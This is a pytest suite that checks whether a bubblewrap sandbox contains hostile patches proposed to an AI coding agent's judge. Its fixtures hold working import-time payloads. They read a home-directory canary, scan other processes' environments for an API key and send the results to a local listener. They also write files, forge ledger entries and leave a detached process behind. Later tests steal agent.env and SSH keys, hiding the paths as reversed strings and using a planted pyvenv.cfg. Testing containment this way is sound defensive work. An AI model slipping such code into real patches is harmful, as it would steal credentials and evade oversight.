"""The sandbox (issue 15), attacked from inside a real patch and checked from outside: a correct fix to
calc.py that, at import time in the judge's test run, reads a canary in $HOME and another process's
environment, calls a listener on 127.0.0.1, writes files everywhere it can, appends to the run's own
ledger and leaves a detached process behind. Run as root and as uid 65534, with the interpreter under
$HOME, and with the repository, the runs directory and HOME outside /tmp.

BWRAP_REQUIRED=1 (set by .ci/run) makes a missing or broken bwrap a failure instead of a skip."""

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import reasoning_ledger as rl
from conftest import KEY, ROOT, all_bytes_under, clean_env, run_script
from test_agent import CALC, make_repo, propose, tools_json, udiff
from test_daemon import serve  # noqa: F401 (fixture)

UNITTESTS = ("import unittest\n\nfrom calc import add, mul\n\n\nclass CalcTest(unittest.TestCase):\n"
             "    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n\n"
             "    def test_mul(self):\n        self.assertEqual(mul(2, 3), 6)\n")
NOBODY = 65534
SYSTEM_PYTHON = "/usr/bin/python3"


def bwrap_reason():
    """None when bwrap boxes a trivial command here, else why not."""
    found = shutil.which("bwrap")
    if not found:
        return "bwrap is not installed (apt-get install bubblewrap)"
    proc = subprocess.run([found, "--unshare-all", "--die-with-parent", "--ro-bind", "/", "/", "--proc", "/proc",
                           "--dev", "/dev", "--", "true"], capture_output=True)
    return None if proc.returncode == 0 else f"bwrap does not work here: {proc.stderr.decode()[:200]}"


def need_bwrap():
    reason = bwrap_reason()
    if reason:
        if os.environ.get("BWRAP_REQUIRED") == "1":
            pytest.fail("BWRAP_REQUIRED=1 but " + reason, pytrace=False)
        pytest.skip(reason)


def need_root():
    if os.getuid() != 0:
        pytest.skip("running as another user needs root")


def open_to_others(path):
    """True when another user may pass through every directory from / down to `path` (o+x)."""
    path = Path(path).resolve()
    return all(os.stat(p).st_mode & 0o001 for p in [path, *path.parents])


def base_parent():
    """Where `base` goes: the clone when other users can reach it, else /var/tmp (hidden from the box too),
    else the temp dir; the clone itself when none of them is open (a test as another user then skips)."""
    for where in (ROOT, Path("/var/tmp"), Path(tempfile.gettempdir())):
        if where.is_dir() and open_to_others(where):
            return where
    return ROOT


@pytest.fixture
def base():
    """A directory outside /tmp and $HOME where it can be: the repository, the runs directory, HOME and the
    lock directory live here, so that hiding /tmp and $HOME is not the whole test."""
    path = Path(tempfile.mkdtemp(prefix=".sandbox-test-", dir=base_parent()))
    os.chmod(path, 0o755)
    yield path
    subprocess.run(["chmod", "-R", "u+rwX", str(path)], check=False)
    shutil.rmtree(path, ignore_errors=True)


def attack(tag, port, targets, runs, canary_path, marker):
    """calc.py fixed, plus an import-time attack on every property of the box. What it reads it prints
    (so that it lands in the judge's output artifact) and sends to the listener."""
    code = f'''
import glob, os, socket, sys
def _attack():
    try:
        canary = open({str(canary_path)!r}).read().strip()
    except OSError:
        canary = "canary-unreadable"
    key = {KEY[::-1]!r}[::-1].encode()
    stolen = ""
    for name in glob.glob("/proc/[0-9]*/environ"):
        try:
            if key in open(name, "rb").read():
                stolen = key.hex()
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
            conn.sendall((canary + stolen).encode())
    except OSError:
        pass
    for where in {[str(t) for t in targets]!r} + [os.path.dirname(os.getcwd())]:
        try:
            with open(os.path.join(where, "pwned-{tag}"), "w") as handle:
                handle.write(canary)
        except OSError:
            pass
    for ledger in glob.glob({str(runs)!r} + "/*/events.jsonl"):
        try:
            with open(ledger, "a") as handle:
                handle.write('{{"forged": true}}\\n')
        except OSError:
            pass
    print("ATTACK", canary, stolen, flush=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{marker}"])
        os._exit(0)
    os.wait()
_attack()
'''
    fixed = CALC.replace("a - b", "a + b")
    return udiff("calc.py", CALC, fixed + code)


def alive_with(marker):
    """Processes whose command line holds `marker`, from the host's /proc."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


def agent_run(server, repo, runs, tools, replies, env, user=None, python=None, args=(), timeout=300, code=ROOT):
    """agent.py (from `code`) run as a user runs it; returns (proc, run_dir, events)."""
    server.queue(*[{"name": "ok", "answer": r} for r in replies])
    cmd = [python or sys.executable, str(code / "agent.py"), "run", "--repo", str(repo), "--runs-dir", str(runs),
           "--tools", str(tools), *args]
    kwargs = {"user": user, "group": user, "extra_groups": []} if user is not None else {}
    proc = subprocess.run(cmd, capture_output=True, env=env, timeout=timeout, cwd=str(runs.parent), **kwargs)
    proc.out, proc.err = proc.stdout.decode(), proc.stderr.decode()
    words = proc.out.split()
    run_dir = runs / words[0] if words else None
    events = list(rl.read_events(run_dir / "events.jsonl")) if run_dir and run_dir.exists() else []
    return proc, run_dir, events


def payloads(events, kind):
    return [e["payload"] for e in events if e["kind"] == kind]


def make_venv(where, python, site):
    args = [python, "-m", "venv", "--without-pip"] + (["--system-site-packages"] if site else []) + [str(where)]
    subprocess.run(args, check=True, capture_output=True)
    return where / "bin" / "python"


def world(base, user=None):
    """HOME (with a canary and a venv: the interpreter under $HOME), the repository, runs and lock dirs,
    all under `base`; for `user`, the repository's tests are unittest and the venv is the system Python's."""
    home, runs, locks = base / "home", base / "runs", base / "locks"
    for path in (home, runs, locks):
        path.mkdir()
    canary = home / "canary.txt"
    canary.write_text("canary-" + os.urandom(8).hex())
    if user is None:
        python = make_venv(home / "venv", sys.executable, site=True)
        repo = make_repo(base / "repo")
        command = [str(python), "-m", "pytest", "-q", "-s"]  # -s: what the attack prints shows in the output
    else:  # the user runs a copy of the scripts: the clone may sit where that user cannot read
        code = base / "code"
        code.mkdir()
        for path in list(ROOT.glob("*.py")) + [ROOT / "tools.json"]:
            shutil.copy2(path, code / path.name)
        python = make_venv(home / "venv", SYSTEM_PYTHON, site=False)
        repo = make_repo(base / "repo", tests=UNITTESTS)
        (repo / "test_calc.py").rename(repo / "tests.py")
        command = [str(python), "-m", "unittest"]
    tools = tools_json(base / "tools.json", test_command=command, judge={"tripwires_off": ["*"]})
    if user is not None:
        subprocess.run(["chown", "-R", f"{user}:{user}", str(base)], check=True)
    env = clean_env(BASE_URL=None, HOME=str(home), AGENT_LOCK_DIR=str(locks), TMPDIR="/tmp")
    return home, repo, runs, locks, canary, tools, env


def attacked_run(server, base, user=None, python=None, env_extra=None, tools_extra=None, ledger=True):
    """The attack in a run; `ledger=False` spares the run's ledger (unboxed, nothing protects it)."""
    home, repo, runs, locks, canary, tools, env = world(base, user)
    if tools_extra:
        data = json.loads(tools.read_text())
        data.update(tools_extra)
        tools.write_text(json.dumps(data))
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    tag, marker = os.urandom(6).hex(), "marker-" + os.urandom(8).hex()
    targets = [home, repo, runs, locks, base, Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]
    patch = attack(tag, listener.getsockname()[1], targets, runs if ledger else base / "nowhere", canary, marker)
    env.update(BASE_URL=server.base_url, API_KEY=KEY, MODEL_ID="stand-in-model", **(env_extra or {}))
    proc, run_dir, events = agent_run(server, repo, runs, tools, [propose(patch)], env, user=user, python=python,
                                      code=ROOT if user is None else base / "code")
    listener.setblocking(False)
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    listener.close()
    written = [str(t / f"pwned-{tag}") for t in targets if (t / f"pwned-{tag}").exists()]
    for path in written:
        os.unlink(path)
    left = alive_with(marker)
    for pid in left:
        os.kill(pid, 9)
    return {"proc": proc, "run_dir": run_dir, "events": events, "connected": connected, "written": written,
            "left": left, "canary": canary.read_text(), "runs": runs}


def assert_boxed(found):
    proc, events = found["proc"], found["events"]
    assert proc.returncode == rl.EXIT_PROPOSAL, proc.err + proc.out
    verdict = payloads(events, "judge_verdict")[-1]
    assert verdict["verdict"] == "accept" and verdict["sandbox"] == "bwrap", verdict
    assert verdict["known_answers"] == "planted"
    assert not found["connected"], "the listener on 127.0.0.1 got a connection"
    assert found["written"] == [], found["written"]
    assert found["left"] == [], "a detached process outlived the judge's test run"
    blob = all_bytes_under(found["runs"])
    assert found["canary"].encode() not in blob
    assert KEY.encode().hex().encode() not in blob, "another process's environment was read"
    output = (found["run_dir"] / verdict["output_artifact"]["path"]).read_text()
    assert "ATTACK canary-unreadable" in output  # the attack ran, and read nothing
    verify = run_script("reasoning_ledger.py", "verify", "--all", found["runs"])
    assert verify.returncode == 0, verify.out + verify.err
    assert all(p["sandbox"] == "bwrap" for p in payloads(events, "tests_run"))


def test_the_attack_takes_no_effect_as_root(server, base):
    need_bwrap()
    need_root()
    found = attacked_run(server, base)
    assert_boxed(found)


def test_the_attack_takes_no_effect_as_an_unprivileged_user(server, base):
    need_bwrap()
    need_root()
    if not os.access(SYSTEM_PYTHON, os.X_OK):
        pytest.skip(f"{SYSTEM_PYTHON} is needed to run agent.py as uid {NOBODY}")
    if not open_to_others(base):
        pytest.skip(f"no directory uid {NOBODY} can reach for a copy of the scripts: the clone, /var/tmp and "
                    f"{tempfile.gettempdir()} are all closed to other users")
    found = attacked_run(server, base, user=NOBODY, python=SYSTEM_PYTHON)
    assert_boxed(found)


def test_required_without_bwrap_refuses_before_any_model_call(server, base):
    home, repo, runs, locks, canary, tools, env = world(base)
    data = json.loads(tools.read_text())
    data["sandbox"] = "required"
    tools.write_text(json.dumps(data))
    env.update(BASE_URL=server.base_url, API_KEY=KEY, MODEL_ID="stand-in-model", PATH=str(no_bwrap_path(base)))
    proc, run_dir, events = agent_run(server, repo, runs, tools, [], env)
    assert proc.returncode == rl.EXIT_FAILED, proc.err + proc.out
    assert server.requests == []
    assert "bubblewrap" in proc.err and '"sandbox": "auto"' in proc.err
    assert payloads(events, "run_started")[0]["sandbox"] == "none", (proc.out, run_dir)
    assert [e["kind"] for e in events][-2:] == ["error", "run_closed"]


def no_bwrap_path(base):
    """A PATH with git and a shell but no bwrap."""
    bin_dir = base / "bin"
    bin_dir.mkdir()
    for name in ("git", "sh", "bash", "env", "true"):
        found = shutil.which(name)
        if found:
            os.symlink(found, bin_dir / name)
    return bin_dir


@pytest.mark.parametrize("mode", ["auto", "off"])
def test_without_bwrap_the_run_goes_ahead_unboxed_and_nothing_outlives_it(server, base, mode):
    found = attacked_run(server, base, env_extra={"PATH": str(no_bwrap_path(base))}, tools_extra={"sandbox": mode},
                         ledger=False)
    proc, events = found["proc"], found["events"]
    assert proc.returncode == rl.EXIT_PROPOSAL, proc.err + proc.out
    started = payloads(events, "run_started")[0]
    assert started["sandbox"] == "none" and started["sandbox_reason"]
    assert "bwrap is not installed" in started["sandbox_reason"] if mode == "auto" else "off" in \
        started["sandbox_reason"]
    for kind in ("tests_run", "judge_verdict"):
        assert all(p["sandbox"] == "none" and p["sandbox_reason"] for p in payloads(events, kind)), kind
    warnings = [line for line in proc.err.splitlines() if "without a sandbox" in line]
    assert len(warnings) == (1 if mode == "auto" else 0), proc.err
    assert found["left"] == [], "the subreaper did not kill the detached process"
    runs = run_script("agent.py", "runs", "--runs-dir", found["runs"], env=clean_env())
    assert "unboxed" in runs.out


def test_a_program_that_does_not_exist_is_still_reported_as_such_in_the_box(server, base):
    need_bwrap()
    home, repo, runs, locks, canary, tools, env = world(base)
    data = json.loads(tools.read_text())
    data["test_command"] = ["no-such-test-runner-here", "-q"]
    tools.write_text(json.dumps(data))
    env.update(BASE_URL=server.base_url, API_KEY=KEY, MODEL_ID="stand-in-model")
    proc, run_dir, events = agent_run(server, repo, runs, tools, [], env)
    assert proc.returncode == rl.EXIT_FAILED, proc.err
    assert "cannot run" in proc.err and "No such file" in proc.err


def test_a_plugin_runs_in_the_box_and_its_result_says_so(server, base):
    need_bwrap()
    home, repo, runs, locks, canary, tools, env = world(base)
    env.update(BASE_URL=server.base_url, API_KEY=KEY, MODEL_ID="stand-in-model")
    reply = json.dumps({"tool": "py_compile", "args": {"path": "calc.py"}, "reason": "check"})
    proc, run_dir, events = agent_run(server, repo, runs, tools, [reply], env, args=("--max-steps", "1"))
    results = [p for p in payloads(events, "tool_result") if p["tool"] == "py_compile"]
    assert results and results[0]["returncode"] == 0 and results[0]["sandbox"] == "bwrap", results


def test_check_tools_validates_the_new_keys(tmp_path):
    bad = tools_json(tmp_path / "bad.json", sandbox="sometimes", caps={"cpu_s": -1, "processes": "many"},
                     judge={"known_answers": "yes", "tripwires_off": ["tripwire.nope"]})
    proc = run_script("agent.py", "check-tools", bad)
    assert proc.returncode == rl.EXIT_USAGE
    for words in ("sandbox: must be one of", "caps.cpu_s", "caps.processes", "judge.known_answers",
                  "judge.tripwires_off"):
        assert words in proc.err, (words, proc.err)
    good = tools_json(tmp_path / "good.json", sandbox="required", caps={"cpu_s": 60, "open_files": 256},
                      judge={"known_answers": False, "tripwires_off": ["*"]})
    assert run_script("agent.py", "check-tools", good).returncode == 0


def test_the_daemon_hands_a_run_its_keys_through_a_pipe_not_its_environment(serve):
    from test_daemon import github_headers, push_body
    from test_daemon import tools_json as daemon_tools
    peek = ("import os; data = open('/proc/%d/environ' % os.getppid(), 'rb').read(); "
            "print('KEY-IN-RUN-ENV', b'API_KEY=' in data)")
    tools = daemon_tools(serve.tmp / "peek-tools.json", test_code=peek, sandbox="off")  # off: it sees the host
    daemon = serve(tools=tools)
    body = push_body()
    run_id = daemon.post(body, github_headers(body, delivery="keys-1")).json()["run_id"]
    finished = daemon.finished([run_id])[run_id]
    assert finished["outcome"] == "no_action", finished  # the run had its key: without, it is a usage error
    events = list(rl.read_events(serve.runs / run_id / "events.jsonl"))
    tests_run = payloads(events, "tests_run")[0]
    output = (serve.runs / run_id / tests_run["output_artifact"]["path"]).read_text()
    assert "KEY-IN-RUN-ENV False" in output, output
    daemon.stop()


# Issue 24: the box reads an allow-list, not "everything but a hide-list"

def theft(paths, extra=None):
    """calc.py fixed, plus an import-time read of each of `paths`, printed hex-encoded (no masking sees it);
    `extra` maps more files the patch adds to their text."""
    code = ("\nfor _path in %r:\n    try:\n        print('STOLEN', open(_path[::-1], 'rb').read().hex(), flush=True)\n"
            "    except OSError as _exc:\n        print('UNREADABLE', type(_exc).__name__, flush=True)\n"
            % [str(p)[::-1] for p in paths])  # reversed: a secret setting's value (a path) is masked
    patch = udiff("calc.py", CALC, CALC.replace("a - b", "a + b") + code)
    return patch + "".join(udiff(name, "", text).replace("--- a/", "--- /dev/null\n", 1).replace(
        "/dev/null\n" + name, "/dev/null", 1) for name, text in (extra or {}).items())


def secret_file(path):
    """A 0600 file of random bytes under `path`, as the deployment's agent.env is; its bytes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    data = ("SECRET-" + os.urandom(12).hex()).encode()
    path.write_bytes(data)
    path.chmod(0o600)
    return data


def stolen_run(server, base, paths, env_extra=None, tools_extra=None, extra=None, setup=None):
    """A run whose patch reads `paths` in the judge's box; (proc, events, the judge's output, all bytes under
    runs)."""
    home, repo, runs, locks, canary, tools, env = world(base)
    data = json.loads(tools.read_text())
    data.update(tools_extra or {})
    tools.write_text(json.dumps(data))
    if setup:
        setup(repo, home)
    env.update(BASE_URL=server.base_url, API_KEY=KEY, MODEL_ID="stand-in-model", **(env_extra or {}))
    proc, run_dir, events = agent_run(server, repo, runs, tools, [propose(theft(paths, extra))], env)
    verdicts = payloads(events, "judge_verdict")
    assert verdicts and verdicts[-1]["sandbox"] == "bwrap", proc.err + proc.out
    output = (run_dir / verdicts[-1]["output_artifact"]["path"]).read_text()
    return proc, events, output, all_bytes_under(runs)


def assert_not_stolen(secrets, output, blob, unreadable):
    assert output.count("UNREADABLE") == unreadable, output  # the theft ran, and read nothing
    for data in secrets:
        assert data not in blob and data.hex().encode() not in blob, "a secret's bytes landed in the run"


def test_files_outside_the_repository_and_home_are_absent_in_the_judges_box(server, base):
    """The documented deployment: agent.env (0600) and WEBHOOK_SECRET_FILE in a directory standing for
    /etc/reasoning-ledger, outside the repository, $HOME and /tmp. The judge is started without
    WEBHOOK_SECRET_FILE, so only an allow-list keeps its file out of the judge's box."""
    need_bwrap()
    etc = base / "etc-reasoning-ledger"
    env_file, hooks = etc / "agent.env", etc / "webhook-secrets"
    secrets = [secret_file(env_file), secret_file(hooks)]
    proc, events, output, blob = stolen_run(server, base, [env_file, hooks],
                                            env_extra={"WEBHOOK_SECRET_FILE": str(hooks)})
    assert proc.returncode == rl.EXIT_PROPOSAL, proc.err + proc.out
    assert_not_stolen(secrets, output, blob, 2)


def test_a_pyvenv_cfg_in_the_repository_chooses_no_mount(server, base):
    """The test program sits one directory down (bin/test), so the repository root's pyvenv.cfg is the one
    beside its bin/: the patch writes it with `home = $HOME/.ssh` and reads ~/.ssh."""
    need_bwrap()
    ssh = base / "home" / ".ssh"

    def setup(repo, home):
        secrets.append(secret_file(ssh / "id_test"))
        script = repo / "bin" / "test"
        script.parent.mkdir()
        script.write_text("#!/bin/sh\nexec python3 -m pytest -q -s -p no:cacheprovider\n")
        script.chmod(0o755)
        subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
        subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm",
                        "bin/test"], check=True)

    secrets = []
    proc, events, output, blob = stolen_run(
        server, base, [ssh / "id_test"], tools_extra={"test_command": ["bin/test"]}, setup=setup,
        extra={"pyvenv.cfg": f"home = {ssh}\ninclude-system-site-packages = true\n"})
    assert payloads(events, "tests_run")[0]["sandbox"] == "bwrap"
    assert_not_stolen(secrets, output, blob, 1)


def test_read_paths_adds_a_path_and_the_run_records_it(server, base, tmp_path):
    need_bwrap()
    shared = base / "shared"
    shared.mkdir()
    data = secret_file(shared / "data.txt")
    proc, events, output, blob = stolen_run(server, base, [shared / "data.txt"],
                                            tools_extra={"sandbox": {"mode": "required", "read_paths": [str(shared)]}})
    assert proc.returncode == rl.EXIT_PROPOSAL, proc.err + proc.out
    assert payloads(events, "run_started")[0]["read_paths"] == [str(shared.resolve())]
    assert "STOLEN " + data.hex() in output  # read_paths is read in the box
    bad = tools_json(tmp_path / "bad.json", sandbox={"mode": "auto", "read_paths": ["relative", "/no/such/path"]})
    proc = run_script("agent.py", "check-tools", bad)
    assert proc.returncode == rl.EXIT_USAGE
    assert proc.err.count("is not an absolute path that exists") == 2, proc.err


def test_read_paths_over_the_runs_directory_is_refused(server, base):
    home, repo, runs, locks, canary, tools, env = world(base)
    data = json.loads(tools.read_text())
    data["sandbox"] = {"read_paths": [str(base)]}
    tools.write_text(json.dumps(data))
    env.update(BASE_URL=server.base_url, API_KEY=KEY, MODEL_ID="stand-in-model")
    proc, run_dir, events = agent_run(server, repo, runs, tools, [], env)
    assert proc.returncode != 0 and "sandbox.read_paths" in proc.err, proc.err
    assert server.requests == []
